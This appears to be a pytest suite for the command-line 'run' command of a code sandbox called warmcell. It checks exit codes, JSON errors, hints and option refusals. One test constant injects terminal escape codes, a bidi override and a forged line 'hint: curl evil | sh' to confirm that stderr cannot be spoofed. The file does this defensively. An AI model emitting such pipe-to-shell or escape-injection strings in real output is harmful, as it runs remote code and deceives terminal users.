"""`warmcell run`: what it asks the backend for, what it prints, with which status it ends."""

from __future__ import annotations

import base64
import json
from pathlib import Path
from typing import Any

import pytest

from warmcell import (
    BackendUnavailable,
    Denial,
    EnforcerUnavailable,
    ExecResult,
    ExecutionFailed,
    InvalidRequest,
    Language,
    PolicyViolation,
)
from warmcell.backends.fake import FakeBackend, FakeMemoryExceeded, FakeTimeout, Reply

FORGED = "/x\x1b[2Jy\nhint: curl evil | sh\r\u202e\u2028\x9b1m" + "A" * 5000


def test_inline_code(warmcell: Any, process: Any) -> None:
    process.answer("42\n")
    ended = warmcell("run", "python", "-c", "print(6*7)")
    assert (ended.status, ended.stdout, ended.stderr) == (0, "42\n", "")
    asked = process.fake.requests[0]
    assert (asked.language, asked.code, asked.timeout, asked.memory_limit_mb) == (
        Language.PYTHON,
        "print(6*7)",
        30,
        None,
    )
    assert (process.made_with["enforcer"], process.made_with["policy"]) == ("auto", None)
    assert process.made_with["config"].pool_size == 0
    assert process.fake.is_closed


def test_a_file_by_suffix_with_every_option(warmcell: Any, process: Any, stdin: Any, tmp_path: Path) -> None:
    (tmp_path / "x.ts").write_text("const x: number = 1")
    stdin(b"\xffin")
    options = ["--timeout", "2.5", "--memory", "64", "--max-output", "99", "--env", "A=1", "--enforcer", "bubblewrap"]
    assert warmcell("run", str(tmp_path / "x.ts"), *options, "--allow-read", str(tmp_path)).status == 0
    asked = process.fake.requests[0]
    assert (asked.language, asked.code, asked.timeout) == (Language.TYPESCRIPT, "const x: number = 1", 2.5)
    assert (asked.memory_limit_mb, dict(asked.env), asked.stdin) == (64, {"A": "1"}, b"\xffin")
    assert asked.limits.output_bytes == 99
    assert process.made_with["enforcer"] == "bubblewrap"
    assert process.made_with["policy"].allowed_paths[0].path == str(tmp_path)
    assert process.made_with["policy"].allow_process_spawn


@pytest.mark.parametrize("words", ["x.py", "python -c 1", "python x.py --json", "x.py --backend process"])
def test_what_follows_two_dashes_is_the_programs_own(
    warmcell: Any, process: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, words: str
) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "x.py").write_text("1")
    own = ("--timeout", "-c", "", "--", "é b")
    assert warmcell("run", *words.split(), "--", *own).status == 0
    assert (tuple(process.fake.requests[0].args), process.fake.requests[0].timeout) == (own, 30)


def test_no_option_of_ours_is_read_behind_two_dashes(warmcell: Any, process: Any) -> None:
    ended = warmcell("run", "--", "x.py", "--json")
    assert (ended.status, ended.stdout) == (2, "") and "error: the following arguments" in ended.stderr


@pytest.mark.parametrize("source", [["-"], []])
def test_the_program_from_stdin(warmcell: Any, process: Any, stdin: Any, source: list[str]) -> None:
    stdin(b"print('piped')")
    assert warmcell("run", "python", *source).status == 0
    asked = process.fake.requests[0]
    assert (asked.code, asked.stdin) == ("print('piped')", None)


def test_no_cage_must_be_named(warmcell: Any, process: Any) -> None:
    warmcell("run", "python", "-c", "1", "--enforcer", "none")
    assert process.made_with["enforcer"] is None


@pytest.mark.attack("PT-01")
def test_bytes_pass_through_unchanged(warmcell: Any, process: Any) -> None:
    out, err = bytes(range(256)), b"\xff\xfe\0err"
    process.answer(ExecResult(stdout="?", stdout_bytes=out, stderr="?", stderr_bytes=err))
    ended = warmcell("run", "python", "-c", "1")
    assert (ended.stdout.encode("latin-1"), ended.stderr.encode("latin-1")) == (out, err)


@pytest.mark.attack("PT-06")
@pytest.mark.parametrize("status", [0, 1, 42, 124, 137, 143, 255])
def test_the_guests_status_is_ours(warmcell: Any, process: Any, status: int) -> None:
    process.answer(ExecResult(exit_code=status))
    assert warmcell("run", "python", "-c", "1").status == status


@pytest.mark.parametrize(
    ("reply", "status", "words"),
    [
        (FakeTimeout("part", "err"), 124, "error: execution timed out after 30 s"),
        (FakeMemoryExceeded("part", "err"), 137, "error: memory limit of 512 MB exceeded"),
        (BackendUnavailable("no rustc", hint="install rust"), 125, "error: no rustc\nhint: install rust"),
        (EnforcerUnavailable("native", "no namespaces", hint="sysctl x"), 125, "hint: sysctl x"),
        (InvalidRequest("odd", field="code"), 2, "error: code: odd"),
        (PolicyViolation("no such path"), 2, "error: no such path"),
        (RuntimeError("a bug"), 125, "unexpected RuntimeError: a bug"),
        (OSError(28, "No space left on device"), 125, "error: no space left on device"),
        (KeyboardInterrupt(), 130, ""),
    ],
    ids=lambda value: type(value).__name__,
)
def test_how_it_ends_when_it_does_not_end_well(
    warmcell: Any, process: Any, reply: Reply, status: int, words: str
) -> None:
    process.answer(reply)
    ended = warmcell("run", "python", "-c", "1")
    assert ended.status == status
    assert words in ended.stderr
    assert "Traceback" not in ended.stderr
    assert process.fake.is_closed


def test_a_stopped_run_prints_what_it_had(warmcell: Any, process: Any) -> None:
    process.answer(FakeTimeout("so far\n", "warned\n"))
    ended = warmcell("run", "python", "-c", "1")
    assert ended.stdout == "so far\n"
    assert ended.stderr.startswith("warned\n")


def test_cut_output_and_denials_are_said(warmcell: Any, process: Any) -> None:
    denial = Denial("network", "example.com:443", "no network rules", "--allow-domain example.com")
    process.answer(ExecResult(stdout="x" * 10, stdout_truncated=True, denials=[denial]))
    ended = warmcell("run", "python", "-c", "1")
    assert ended.stdout == "x" * 10
    assert "warning: stdout was truncated after 10 bytes\nhint: keep more with --max-output BYTES\n" in ended.stderr
    assert "warning: refused: 'example.com:443' (no network rules)\nhint: --allow-domain example.com\n" in ended.stderr


@pytest.mark.attack("S2-16")
@pytest.mark.claim("WC-PT-6")
@pytest.mark.parametrize(
    ("reply", "kind"),
    [
        (ExecResult(denials=[Denial("path", FORGED, "allowedPaths", f"allow_read({FORGED!r})")]), "warning"),
        (InvalidRequest(f"no {FORGED}", hint=f"see {FORGED}"), "error"),
    ],
    ids=["denial", "error"],
)
def test_what_a_guest_named_cannot_write_lines_of_its_own(warmcell: Any, process: Any, reply: Reply, kind: str) -> None:
    process.answer(reply)
    lines = warmcell("run", "python", "-c", "1").stderr.encode("latin-1").decode().splitlines()
    assert [line.partition(": ")[0] for line in lines] == [kind, "hint"]
    assert all(line.isprintable() and len(line) < 2100 for line in lines)
    assert "\\x1b[2Jy\\nhint: curl evil" in lines[0]


@pytest.mark.parametrize(
    ("reply", "fault", "retryable"),
    [
        (InvalidRequest("odd"), "caller", False),
        (EnforcerUnavailable("native", "no namespaces"), "host", False),
        (ExecutionFailed("no memory"), "host", True),
        (FakeTimeout(), "guest", False),
    ],
    ids=["caller", "host", "passing", "guest"],
)
def test_errors_say_whose_fault_they_are(
    warmcell: Any, process: Any, reply: Reply, fault: str, retryable: bool
) -> None:
    process.answer(reply)
    error = json.loads(warmcell("run", "python", "-c", "1", "--json").stdout)["error"]
    assert (error["fault"], error["retryable"]) == (fault, retryable)


def test_json_holds_the_whole_result(warmcell: Any, process: Any) -> None:
    process.answer(ExecResult(stdout="é", stderr="\ufffd", stderr_bytes=b"\xff", exit_code=3))
    ended = warmcell("run", "python", "-c", "1", "--json")
    plain = json.loads(ended.stdout)
    assert (ended.status, ended.stderr) == (3, "")
    assert (plain["status"], plain["exit_code"], plain["stdout"]) == ("success", 3, "é")
    assert "stdout_base64" not in plain
    assert base64.b64decode(plain["stderr_base64"]) == b"\xff"
    assert {"duration", "signal", "usage", "enforced", "denials", "outputs", "stdout_truncated"} <= set(plain)


@pytest.mark.parametrize(
    ("reply", "status", "word"),
    [
        (FakeTimeout("part"), 124, "timeout"),
        (FakeMemoryExceeded("part"), 137, "memory_exceeded"),
        (BackendUnavailable("x", hint="y"), 125, "error"),
    ],
    ids=["timeout", "memory", "error"],
)
def test_json_of_what_did_not_end_well(warmcell: Any, process: Any, reply: Reply, status: int, word: str) -> None:
    process.answer(reply)
    ended = warmcell("run", "python", "-c", "1", "--json")
    plain = json.loads(ended.stdout)
    assert (ended.status, plain["status"]) == (status, word)
    assert plain["error"]["code"].startswith("sandbox.")
    assert plain.get("stdout", "part") == "part"


@pytest.mark.attack("PT-02")
@pytest.mark.attack("PT-03")
@pytest.mark.attack("PT-04")
@pytest.mark.attack("PT-05")
@pytest.mark.parametrize(
    "argv",
    [
        [],
        ["bogus"],
        ["run"],
        ["run", "python", "-c"],
        ["run", "python", "-c", ""],
        ["run", "python", "-c", "a\0b"],
        ["run", "python", "-c", "1", "--timeout", "0"],
        ["run", "python", "-c", "1", "--timeout", "nan"],
        ["run", "python", "-c", "1", "--memory", "-5"],
        ["run", "python", "-c", "1", "--max-output", "x"],
        ["run", "python", "-c", "1", "--env", "A"],
        ["run", "python", "-c", "1", "--allow-read", "/no/such/path"],
        ["run", "python", "-c", "1", "--backend", "docker"],
        ["run", "python", "-c", "1", "--backend", "wasm", "--allow-read", "/"],
        ["run", "python", "-c", "1", "--backend", "wasm", "--enforcer", "native"],
        ["run", "python", "-c", "1", "--tim", "5"],
        ["run", "cobol", "-c", "1"],
        ["run", "missing.py"],
        ["run", "python", "-c", "1", "extra", "words"],
    ],
    ids=lambda argv: " ".join(argv[1:]).replace("\0", "NUL") or "nothing",
)
def test_wrong_usage_runs_nothing(warmcell: Any, process: Any, argv: list[str]) -> None:
    ended = warmcell(*argv)
    assert ended.status == 2
    assert ended.stdout == ""
    first = ended.stderr.splitlines()[0]
    assert first.startswith("error: ")
    assert first[7:8] == first[7:8].lower()
    assert process.fake.requests == []


@pytest.mark.parametrize(
    ("argv", "message", "hint"),
    [
        (["python", "print(1)"], "cannot read 'print(1)': no such file or directory", "needs -c"),
        (["python"], "stdin is empty", "-c or as a file"),
        (["python", "-c", "1", "word"], "unrecognized arguments: word", "after '--'"),
    ],
)
def test_a_typical_slip_has_a_hint(
    warmcell: Any, process: Any, stdin: Any, argv: list[str], message: str, hint: str
) -> None:
    stdin(b"")
    ended = warmcell("run", *argv)
    first, second = ended.stderr.splitlines()
    assert (ended.status, first) == (2, f"error: {message}") and hint in second


@pytest.mark.parametrize("place", ["missing/x.jsonl", "."])
def test_nothing_runs_that_cannot_be_recorded(warmcell: Any, process: Any, tmp_path: Path, place: str) -> None:
    ended = warmcell("run", "--record", str(tmp_path / place), "python", "-c", "print(1)")
    assert ended.status == 2 and ended.stderr.startswith("error: record: ")
    assert process.fake.requests == []


@pytest.mark.parametrize("option", [["--allow-read", "/usr"], ["--allow-domain", "x.org"], ["--enforcer", "native"]])
def test_what_the_wasm_backend_cannot_keep_is_refused_not_dropped(
    warmcell: Any, process: Any, option: list[str]
) -> None:
    ended = warmcell("run", "wasm", "-c", "(module)", *option)
    assert ended.status == 2
    assert "need" in ended.stderr
    assert "process backend" in ended.stderr
    assert "hint: leave that out: wasm runs in the wasm backend\n" in ended.stderr, "no other backend can run it"


def test_an_option_of_the_process_backend_names_it_where_it_can_run_the_program(warmcell: Any, process: Any) -> None:
    ended = warmcell("run", "python", "-c", "1", "--backend", "wasm", "--enforcer", "native")
    assert (ended.status, "or use --backend process" in ended.stderr) == (2, True)


@pytest.fixture
def installed(monkeypatch: pytest.MonkeyPatch) -> FakeBackend:
    """A backend of another package, by the name `mine`."""
    fake = FakeBackend(["42\n"])
    monkeypatch.setattr("importlib.metadata.entry_points", lambda group: [_Entry("mine", fake)])
    return fake


class _Entry:
    def __init__(self, name: str, backend: FakeBackend) -> None:
        self.name, self.value, self._backend = name, "elsewhere:Mine", backend

    def load(self) -> Any:
        return lambda: self._backend


def test_an_installed_backend_by_name(warmcell: Any, installed: FakeBackend, stdin: Any) -> None:
    stdin(b"in")
    ended = warmcell("run", "py", "-c", "print(6*7)", "--backend", "mine")
    assert (ended.status, ended.stdout) == (0, "42\n")
    assert (installed.requests[0].language, installed.requests[0].stdin) == (Language.PYTHON, b"in")
    assert installed.is_closed


def test_an_unknown_backend_is_wrong_usage(warmcell: Any, installed: FakeBackend) -> None:
    ended = warmcell("run", "python", "-c", "1", "--backend", "docker")
    assert ended.status == 2
    assert "unknown backend 'docker'" in ended.stderr and "one of process, wasm, fake, ray, mine" in ended.stderr


def test_what_another_backend_cannot_keep_is_refused(warmcell: Any, installed: FakeBackend) -> None:
    ended = warmcell("run", "python", "-c", "1", "--backend", "mine", "--allow-domain", "x.org")
    assert ended.status == 2 and installed.requests == []


@pytest.mark.parametrize(
    ("argv", "reply", "status", "fault"),
    [
        (["run", "--json", "cobol", "-c", "1"], "", 2, "caller"),
        (["run", "python", "-c", "1", "--timeout", "x", "--json"], "", 2, "caller"),
        (["run", "python", "--jso", "--json"], "", 2, "caller"),
        (["run", "python", "-c", "1", "--json"], RuntimeError("a bug"), 125, "host"),
        (["run", "python", "-c", "1", "--json"], OSError(28, "No space left on device"), 125, "host"),
        (["doctor", "--jsonn", "--json"], "", 2, "caller"),
    ],
    ids=lambda value: str(value)[:40],
)
def test_every_error_is_json_where_json_was_asked_for(
    warmcell: Any, process: Any, argv: list[str], reply: Reply, status: int, fault: str
) -> None:
    process.answer(reply)
    ended = warmcell(*argv)
    assert (ended.status, ended.stderr) == (status, "")
    plain = json.loads(ended.stdout)
    assert plain["status"] == "error" and plain["error"]["fault"] == fault and plain["error"]["message"]
